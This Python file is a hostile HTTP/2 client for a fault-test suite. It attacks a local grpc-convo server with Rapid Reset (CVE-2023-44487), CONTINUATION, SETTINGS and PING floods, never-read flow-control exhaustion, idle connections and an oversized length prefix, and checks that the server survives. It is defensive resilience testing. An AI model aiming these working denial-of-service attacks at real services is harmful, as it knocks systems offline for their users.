"""A hostile HTTP/2 client for the fault suite, on Python's h2 (hyper-h2) package.

    hostile.py ATTACK ADDR --pid PID --binary BIN --log FILE [--rss-mib N] [--connections N] ...

Each ATTACK runs against `grpc-convo serve` (process PID, logging to FILE) while an honest
`grpc-convo ask` conversation goes on beside it on a connection of its own, one question at a
time, from before the attack starts until after it ends. The case passes when that conversation
gets every answer right, serve is still running, its RSS grew by less than --rss-mib, and serve
logged no more lines than the attack used connections. It prints the attacker's figures.
"""

import argparse
import os
import socket
import struct
import subprocess
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.settings

PATH = "/proto.Stream/Conversations"
MAX_WINDOW = 2**31 - 1


def fail(reason):
    print(f"FAIL: {reason}", file=sys.stderr)
    sys.exit(1)


def grpc_message(question):
    body = b"\x0a" + bytes([len(question)]) + question
    return b"\x00" + struct.pack(">I", len(body)) + body


def request_headers(host):
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", host),
        (":path", PATH),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def rss_kib(pid, field="VmRSS"):
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith(field + ":"):
                return int(line.split()[1])
    fail(f"serve (pid {pid}) is gone")


def settled_rss_kib(pid):
    """serve's RSS once it stops growing: what it took in is all counted (at most 20 s)."""
    last, still = rss_kib(pid), 0
    for _ in range(200):
        time.sleep(0.1)
        now = rss_kib(pid)
        still = still + 1 if now <= last * 1.005 else 0
        last = max(last, now)
        if still >= 10:
            break
    return last


class Connection:
    """One raw HTTP/2 connection, the attacker's side."""

    def __init__(self, addr, window=65535):
        host, port = addr.rsplit(":", 1)
        self.host = addr
        self.sock = socket.create_connection((host, int(port)))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        self.h2 = h2.connection.H2Connection(config=config)
        self.h2.local_settings = h2.settings.Settings(
            client=True, initial_values={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window}
        )
        self.h2.initiate_connection()
        if window > 65535:
            self.h2.increment_flow_control_window(MAX_WINDOW - 65535)
        self.flush()

    def await_settings(self):
        """Reads until the server's SETTINGS and its connection window have arrived, so that
        h2 lets us send a whole stream window on every stream."""
        settings = window = False
        while not (settings and window):
            events = self.read_some(timeout=10)
            if not events:
                fail("the server sent no SETTINGS and connection window within 10 s")
            for event in events:
                settings |= isinstance(event, h2.events.RemoteSettingsChanged)
                window |= isinstance(event, h2.events.WindowUpdated) and event.stream_id == 0
        self.flush()

    def flush(self):
        data = self.h2.data_to_send()
        if data:
            self.sock.sendall(data)

    def read_some(self, timeout=0.0):
        """Reads what has arrived; returns the events, or None once the server closed."""
        self.sock.settimeout(timeout)
        try:
            data = self.sock.recv(1 << 20)
        except (BlockingIOError, socket.timeout):
            return []
        except ConnectionError:
            return None
        finally:
            self.sock.settimeout(None)
        if not data:
            return None
        try:
            return self.h2.receive_data(data)
        except Exception:  # the server may say things h2 refuses once we misbehaved
            return []

    def close(self):
        self.sock.close()


class Honest:
    """An ask conversation on its own connection, one question at a time, checked answer by
    answer, until `finish`."""

    def __init__(self, binary, addr):
        self.proc = subprocess.Popen(
            [binary, "ask", "--addr", addr], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, bufsize=1
        )
        self.asked = 0
        self.error = None
        self.done = threading.Event()
        self.thread = threading.Thread(target=self.converse, daemon=True)
        self.converse_once()  # the conversation is under way before the attack starts
        self.thread.start()

    def converse_once(self):
        self.asked += 1
        question = f"honest {self.asked}"
        self.proc.stdin.write(question + "\n")
        self.proc.stdin.flush()
        answer = self.proc.stdout.readline().rstrip("\n")
        want = f"from stream server answer: the {self.asked} question is {question}"
        if answer != want:
            raise RuntimeError(f"answer {self.asked}: got {answer!r}, want {want!r}")

    def converse(self):
        try:
            while not self.done.is_set():
                self.converse_once()
        except Exception as err:  # reported by finish
            self.error = err

    def finish(self):
        self.done.set()
        self.thread.join(60)
        if self.error is None:
            self.converse_once()  # and it still answers after the attack
        self.proc.stdin.close()
        rest = self.proc.stdout.read()
        code = self.proc.wait(30)
        if self.error or code != 0 or rest:
            fail(f"the honest conversation: {self.error or ''} exit {code}, extra output {rest!r}")
        return self.asked


def send_within(sock, data, patience):
    """Sends what the peer takes, giving up after `patience` seconds without progress."""
    sock.settimeout(patience)
    sent = 0
    try:
        while sent < len(data):
            sent += sock.send(data[sent:])
    except (socket.timeout, BlockingIOError):
        pass
    finally:
        sock.settimeout(None)
    return sent


# ---- attacks: each returns (connections used, what it did) ----------------------------------


def never_read(args):
    """Streams that each send one stream window of 1-byte questions, with windows as large as
    HTTP/2 allows for the answers, and then never read a byte."""
    message = grpc_message(b"x")
    conns, sent, wanted = [], 0, 0
    for _ in range(args.connections):
        conn = Connection(args.addr, window=MAX_WINDOW)
        conn.await_settings()
        # One stream window: what serve lets a conversation send before it reads.
        per_stream = conn.h2.remote_settings.initial_window_size // len(message)
        for _ in range(args.streams):
            sid = conn.h2.get_next_available_stream_id()
            conn.h2.send_headers(sid, request_headers(conn.host))
            # The DATA frames by hand, one a question as grpc-go sends them: h2 would take
            # minutes to make a million of them, and this client sends nothing through it again.
            frame = struct.pack(">I", len(message))[1:] + b"\x00\x00" + struct.pack(">I", sid) + message
            # As far as serve takes it: it stops reading a client it cannot write to, and this
            # client never reads.
            pending = conn.h2.data_to_send() + frame * per_stream
            wanted += len(pending)
            sent += send_within(conn.sock, pending, 2)
        conns.append(conn)
    args.hold = conns
    return args.connections, (
        f"{args.connections} connections x {args.streams} conversations, {per_stream} questions of "
        f"{len(message)} bytes each ({sent / 2**20:.1f} of {wanted / 2**20:.1f} MiB taken by serve), "
        f"answers never read"
    )


def http1_never_read(args):
    """HTTP/1.1 connections that each send a Connect stream of --streams one-byte questions to
    the tutorial's method and never read an answer: serve must stop answering once what it
    holds for the connection is full, and stop reading questions with it."""
    question = grpc_message(b"x")
    body = question * args.streams
    host, port = args.addr.rsplit(":", 1)
    conns, sent, wanted = [], 0, 0
    for _ in range(args.connections):
        sock = socket.create_connection((host, int(port)))
        head = (f"POST /proto.Stream/Conversations HTTP/1.1\r\nhost: {args.addr}\r\n"
                f"content-type: application/connect+proto\r\ncontent-length: {len(body)}\r\n\r\n")
        pending = head.encode() + body
        wanted += len(pending)
        sent += send_within(sock, pending, 2)
        conns.append(sock)
    args.hold = conns
    return args.connections, (
        f"{args.connections} HTTP/1.1 connections, a Connect stream of {args.streams} questions "
        f"each ({sent / 2**20:.1f} of {wanted / 2**20:.1f} MiB taken by serve), answers never read"
    )


def rapid_reset(args):
    """CVE-2023-44487: streams opened and reset at once, as fast as possible."""
    conn = Connection(args.addr)
    opened, closed_by_server = 0, False
    started = time.monotonic()
    batch = 100
    while opened < args.streams:
        for _ in range(batch):
            sid = conn.h2.get_next_available_stream_id()
            conn.h2.send_headers(sid, request_headers(conn.host))
            conn.h2.reset_stream(sid)
            opened += 1
        try:
            conn.flush()
        except (BrokenPipeError, ConnectionError):
            closed_by_server = True
            break
        events = conn.read_some()
        if events is None or any(isinstance(e, h2.events.ConnectionTerminated) for e in events):
            closed_by_server = True
            break
    elapsed = time.monotonic() - started
    conn.close()
    how = "the server closed the connection" if closed_by_server else "the connection stayed open"
    return 1, f"{opened} streams opened and reset in {elapsed:.2f} s; {how}"


def continuation(args):
    """HEADERS without END_HEADERS, then CONTINUATION frames that never end the block."""
    conn = Connection(args.addr)
    conn.flush()
    sock = conn.sock
    # Written by hand: h2 will not send a header block that never ends.
    header = lambda kind, flags, length: struct.pack(">I", length)[1:] + bytes([kind, flags]) + struct.pack(">I", 1)
    block = b"\x00\x0ax-padding-\x10" + b"a" * 16  # a literal header, never indexed
    sent, cut = 0, False
    try:
        sock.sendall(header(0x1, 0x0, len(block)) + block)
        chunk = (header(0x9, 0x0, len(block)) + block) * 64
        while sent < args.frames:
            sock.sendall(chunk)
            sent += 64
    except (BrokenPipeError, ConnectionError):
        cut = True
    conn.close()
    how = "the server closed the connection" if cut else "all were sent"
    return 1, f"{sent} CONTINUATION frames of {len(block)} bytes after one HEADERS; {how}"


def flood(args, frame):
    conn = Connection(args.addr)
    sent, cut = 0, False
    try:
        for _ in range(args.frames // 100):
            for _ in range(100):
                frame(conn)
            conn.flush()
            sent += 100
    except (BrokenPipeError, ConnectionError):
        cut = True
    conn.close()
    return sent, cut


def settings_flood(args):
    sent, cut = flood(args, lambda c: c.h2.update_settings({h2.settings.SettingCodes.MAX_FRAME_SIZE: 16384}))
    return 1, f"{sent} SETTINGS frames, no ACK read; {'cut off' if cut else 'all sent'}"


def ping_flood(args):
    sent, cut = flood(args, lambda c: c.h2.ping(b"12345678"))
    return 1, f"{sent} PINGs, no ACK read; {'cut off' if cut else 'all sent'}"


def idle_connections(args):
    """TCP connections that send nothing at all; serve's --handshake-timeout closes them."""
    host, port = args.addr.rsplit(":", 1)
    socks = [socket.create_connection((host, int(port))) for _ in range(args.connections)]
    started = time.monotonic()
    closed = 0
    for sock in socks:
        sock.settimeout(max(0.1, 30 - (time.monotonic() - started)))
        try:
            if sock.recv(1) == b"":
                closed += 1
        except ConnectionError:
            closed += 1
        except socket.timeout:
            pass
        sock.close()
    elapsed = time.monotonic() - started
    if closed != len(socks):
        fail(f"serve closed {closed} of {len(socks)} silent connections")
    return len(socks), f"{len(socks)} silent connections, all closed by serve within {elapsed:.1f} s"


def health_flood(args):
    """--streams Health/Check calls spread over --connections, each with its message and never
    an END_STREAM: serve's --max-side-calls refuses those past it, --side-call-idle resets the
    rest. Reads until every stream has been answered one way or the other."""
    conns = [Connection(args.addr, window=MAX_WINDOW) for _ in range(args.connections)]
    for conn in conns:
        conn.await_settings()
    message = b"\x00\x00\x00\x00\x00"  # an empty HealthCheckRequest: the whole server
    headers = [h if h[0] != ":path" else (":path", "/grpc.health.v1.Health/Check")
               for h in request_headers(conns[0].host)]
    open_streams = {id(conn): set() for conn in conns}
    outcomes = {"refused": 0, "reset": 0}
    started = time.monotonic()

    def settle(conn, timeout):
        for event in conn.read_some(timeout=timeout) or []:
            sid = getattr(event, "stream_id", None)
            if sid not in open_streams[id(conn)]:
                continue
            if isinstance(event, h2.events.StreamReset):
                outcomes["reset"] += 1
                open_streams[id(conn)].discard(sid)
            elif isinstance(event, h2.events.ResponseReceived) and \
                    dict(event.headers).get("grpc-status") == "8":
                outcomes["refused"] += 1
                open_streams[id(conn)].discard(sid)
        conn.flush()

    for n in range(args.streams):
        conn = conns[n % len(conns)]
        sid = conn.h2.get_next_available_stream_id()
        conn.h2.send_headers(sid, headers)
        conn.h2.send_data(sid, message)
        open_streams[id(conn)].add(sid)
        # Every connection is read now and then, or serve's keepalive finds it unanswering.
        if n % (100 * len(conns)) == 100 * len(conns) - 1:
            for each in conns:
                each.flush()
                settle(each, 0)
    deadline = time.monotonic() + 120
    while any(open_streams.values()) and time.monotonic() < deadline:
        for conn in conns:
            settle(conn, 0.01)
    left = sum(len(v) for v in open_streams.values())
    args.hold.extend(conns)
    if left:
        fail(f"{left} of {args.streams} health streams neither refused nor reset within 120 s")
    # serve logs its refusals once a second at most, besides a line per connection.
    lines = len(conns) + int(time.monotonic() - started) + 1
    return lines, (f"{args.streams} open Health/Check streams: {outcomes['refused']} "
                   f"refused, {outcomes['reset']} reset")


def huge_length(args):
    """A message whose length prefix says 4 GiB, on a stream of its own."""
    conn = Connection(args.addr)
    sid = conn.h2.get_next_available_stream_id()
    conn.h2.send_headers(sid, request_headers(conn.host))
    conn.h2.send_data(sid, b"\x00\xff\xff\xff\xff" + b"x" * 1000)
    conn.flush()
    status = None
    while status is None:
        events = conn.read_some(timeout=30)
        if events is None:
            break
        for event in events:
            if isinstance(event, (h2.events.TrailersReceived, h2.events.ResponseReceived)):
                status = dict(event.headers).get("grpc-status", status)
            if isinstance(event, h2.events.StreamReset) and status is None:
                status = f"RST_STREAM {event.error_code}"
    conn.close()
    if status != "8":
        fail(f"a 4 GiB length prefix got {status}, want grpc-status 8 (RESOURCE_EXHAUSTED)")
    return 1, "a 4 GiB length prefix: RESOURCE_EXHAUSTED, the stream alone ended"


ATTACKS = {
    "never-read": never_read,
    "http1-never-read": http1_never_read,
    "rapid-reset": rapid_reset,
    "continuation": continuation,
    "settings-flood": settings_flood,
    "ping-flood": ping_flood,
    "idle-connections": idle_connections,
    "huge-length": huge_length,
    "health-flood": health_flood,
}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("addr")
    parser.add_argument("--pid", type=int, required=True)
    parser.add_argument("--binary", required=True, help="grpc-convo, for the honest ask")
    parser.add_argument("--log", required=True)
    parser.add_argument("--rss-mib", type=float, required=True, help="the most serve's RSS may grow")
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--streams", type=int, default=1)
    parser.add_argument("--frames", type=int, default=10_000)
    args = parser.parse_args()
    args.hold = []

    log_start = os.path.getsize(args.log)
    before = rss_kib(args.pid)
    honest = Honest(args.binary, args.addr)
    used, what = ATTACKS[args.attack](args)
    grown = (settled_rss_kib(args.pid) - before) / 1024
    asked = honest.finish()
    for conn in args.hold:
        conn.close()
    with open(args.log) as log:
        log.seek(log_start)
        lines = [line for line in log if "conversation" not in line]
    print(f"{args.attack}: {what}; serve's RSS grew {grown:.1f} MiB (bound {args.rss_mib:g}); "
          f"the honest conversation got all {asked} answers; serve logged {len(lines)} lines")
    if grown > args.rss_mib:
        fail(f"serve's RSS grew {grown:.1f} MiB, over the bound of {args.rss_mib:g} MiB")
    if len(lines) > max(used, 1):
        fail(f"serve logged {len(lines)} lines for {used} connections:\n" + "".join(lines[:5]))


if __name__ == "__main__":
    main()
